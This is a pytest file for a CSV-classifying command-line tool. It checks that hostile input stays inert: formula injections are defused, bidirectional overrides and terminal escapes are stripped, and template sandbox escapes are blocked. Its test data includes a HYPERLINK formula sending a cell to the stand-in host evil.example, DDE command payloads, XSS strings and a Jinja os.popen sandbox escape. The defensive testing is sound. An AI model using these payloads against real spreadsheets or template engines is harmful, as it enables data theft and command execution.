"""Hostile values in a cell are data, never code: right-to-left text, emoji, very long names, text
that looks like a spreadsheet formula. The classify CSV carries a UTF-8 BOM so that Excel opens it,
so by default a cell a spreadsheet would run as a formula starts with ' (OWASP's CSV-injection
guidance); `--raw` and JSON Lines give every value exactly as it went in, for programs. (The HTML
and Excel reports are tested with their renderers.)"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from analyzer.cli import main

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click to fix")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=WEBSERVICE(\"http://evil.example\")",
    "\t=1+1",
    "=cmd|' /C notepad'!'A1'",
]
HOSTILE = {
    "rtl-override": "Invoice \u202egnp.exe\u202c for Acme",
    "arabic": "رمز الحساب '455' مؤرشف",
    "hebrew": "שגיאה: קוד חשבון 455",
    "emoji": "🧾 Receipt 👍🏽 from 👨‍👩‍👧 Family Café",
    "zero-width": "Acme\u200bLtd\u200d\ufeff",
    "combining": "Cafe\u0301 Nord",
    "quotes-and-delimiters": 'He said "no", then; left|tab\there',
    "line-breaks": "first line\nsecond line\r\nthird\rfourth",
    "long": "Very Long Supplier Name " * 4000,
    "html": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "json": '{"Message": "x", "Elements": [1, 2]}',
    "surrounding-spaces": "  padded  ",
    "backslashes": "C:\\Users\\x\\ \\n not a newline",
    **{f"formula-{n}": f for n, f in enumerate(FORMULAS)},
}


def run(*argv):
    out, err = io.StringIO(), io.StringIO()
    code = main([str(a) for a in argv], stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture()
def hostile_export(tmp_path) -> Path:
    path = tmp_path / "Hostile Ltd - failed items.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Receipt ID", "Supplier", "Description", "Error"])
        for number, (name, value) in enumerate(HOSTILE.items()):
            writer.writerow([f"id-{number}", value, name, f"{value} Account code '455' has been archived"])
    return path


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_raw_csv_output_keeps_every_value_byte_for_byte(tmp_path, hostile_export):
    target = tmp_path / "out.csv"
    code, _, err = run("classify", hostile_export, "-o", target, "--raw")
    assert code == 0, err
    rows = _csv_rows(target)
    assert [r["Receipt ID"] for r in rows] == [f"id-{n}" for n in range(len(HOSTILE))]
    for row, value in zip(rows, HOSTILE.values()):
        assert row["Supplier"] == value
        assert row["error"] == f"{value} Account code '455' has been archived"
        assert row["categories"]  # classified, whatever surrounds the error


@pytest.mark.parametrize("formula", [*FORMULAS, "\r=1+1", "@cmd"])
def test_formulas_are_defused_by_default_and_raw_on_request(tmp_path, formula):
    source = tmp_path / "f.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["Item ID", "Supplier", "Total", "Error"], ["1", formula, "-12.50", formula]])
    target = tmp_path / "out.csv"
    assert run("classify", source, "-o", target)[0] == 0
    row = _csv_rows(target)[0]
    expected = "'" + formula.replace("\r\n", "\n")
    assert row["Supplier"].replace("\r\n", "\n") == expected.replace("\r\n", "\n")
    assert row["error"].startswith("'") and row["Total"] == "-12.50"  # a plain number is left alone
    raw_target = tmp_path / "raw.csv"
    assert run("classify", source, "-o", raw_target, "--raw")[0] == 0
    assert _csv_rows(raw_target)[0]["Supplier"] == formula
    jsonl = tmp_path / "out.jsonl"
    assert run("classify", source, "-o", jsonl)[0] == 0
    assert json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])["Supplier"] == formula


def test_jsonl_output_keeps_every_value(tmp_path, hostile_export):
    target = tmp_path / "out.jsonl"
    assert run("classify", hostile_export, "-o", target)[0] == 0
    text = target.read_text(encoding="utf-8")
    records = [json.loads(line) for line in text.split("\n") if line]
    assert [r["Supplier"] for r in records] == list(HOSTILE.values())
    assert all("\n" not in line for line in text.split("\n"))  # one record per line


def test_standard_output_is_the_same_table(tmp_path, hostile_export):
    code, out, _ = run("classify", hostile_export, "--raw")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["Supplier"] for r in rows] == list(HOSTILE.values())
    code, out, _ = run("classify", hostile_export)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    defused = ["'" + v if v[:1] in "=+-@\t\r" else v for v in HOSTILE.values()]
    assert [r["Supplier"] for r in rows] == defused


def test_hostile_headers_and_file_names(tmp_path):
    """Column names and the client taken from a file name are data too."""
    name = "\u202eRTL 🧾 Ltd - failed items.csv"
    path = tmp_path / name
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["=HYPERLINK(\"x\")", "Ошибка", "Error"], ["a", "b", "boom"]])
    target = tmp_path / "out.csv"
    code, _, err = run("classify", path, "-o", target)
    assert code == 0, err
    row = _csv_rows(target)[0]
    assert row["'=HYPERLINK(\"x\")"] == "a" and row["Ошибка"] == "b"  # a heading is a cell too
    assert row["client"] == "RTL 🧾 Ltd"  # the override cannot make the name display as another
    assert "\u202e" not in err  # messages escape bidirectional overrides


def test_control_characters_in_headers_never_reach_the_terminal(tmp_path):
    path = tmp_path / "c.csv"
    path.write_bytes(b"Item\x1b[31m ID,Supplier\x07\r\n1,a\r\n")  # no error column: the header is printed
    code, _, err = run("classify", path)
    assert code == 1
    assert "\x1b" not in err and "\x07" not in err
    assert "no error column found (columns: Item [31m ID, Supplier)" in err


def test_nul_bytes_are_removed_the_same_way_every_time(tmp_path):
    path = tmp_path / "n.csv"
    path.write_bytes(b"Item ID,Supplier,Error\r\n1,Ac\0me\0,bo\0om\r\n2,\0,x\r\n")
    outputs = []
    for attempt in range(2):
        target = tmp_path / f"out{attempt}.csv"
        assert run("classify", path, "-o", target)[0] == 0
        outputs.append(target.read_bytes())
    assert outputs[0] == outputs[1] and b"\0" not in outputs[0]
    rows = _csv_rows(tmp_path / "out0.csv")
    assert [(r["Supplier"], r["error"]) for r in rows] == [("Acme", "boom"), ("", "x")]


def test_very_long_values_within_the_limit_are_kept_whole(tmp_path):
    long_value = "x" * 900_000
    path = tmp_path / "l.csv"
    path.write_text(f"Item ID,Supplier,Error\n1,{long_value},boom\n", encoding="utf-8")
    target = tmp_path / "out.jsonl"
    assert run("classify", path, "-o", target)[0] == 0
    record = json.loads(target.read_text(encoding="utf-8"))
    assert record["Supplier"] == long_value


SAMPLE = Path(__file__).resolve().parent.parent / "sample_exports" / "Summit Physio LLC - publishing errors Oct 2026.csv"
BRAND_REST = ("{% macro colours() %}--brand: #123;{% endmacro %}\n"
              "{% macro footer_note(practice) %}x{% endmacro %}\n")


@pytest.mark.parametrize("masthead, words", [
    # A sandbox escape that would run a shell command and write outside the output folder.
    ("{{ cycler.__init__.__globals__.os.popen('touch ' ~ target).read() }}", "breaks the template sandbox"),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "breaks the template sandbox"),
    ("{{ 1 // 0 }}", "ZeroDivisionError"),
    ("{% if %}", "Expected an expression"),
    ("{{ no_such_name.x }}", "is undefined"),
])
def test_a_practice_template_runs_in_a_sandbox_and_fails_in_one_line(tmp_path, masthead, words):
    folder = tmp_path / "branding"
    folder.mkdir()
    target = tmp_path / "PWNED"
    (folder / "_brand.html").write_text(
        "{% set target = '" + str(target) + "' %}\n{% macro masthead(practice) %}" + masthead + "{% endmacro %}\n"
        + BRAND_REST, encoding="utf-8")
    code, _, err = run("report", SAMPLE, "--out", tmp_path / "out", "--templates", folder)
    assert code == 2 and words in err and "_brand.html line" in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert not target.exists()
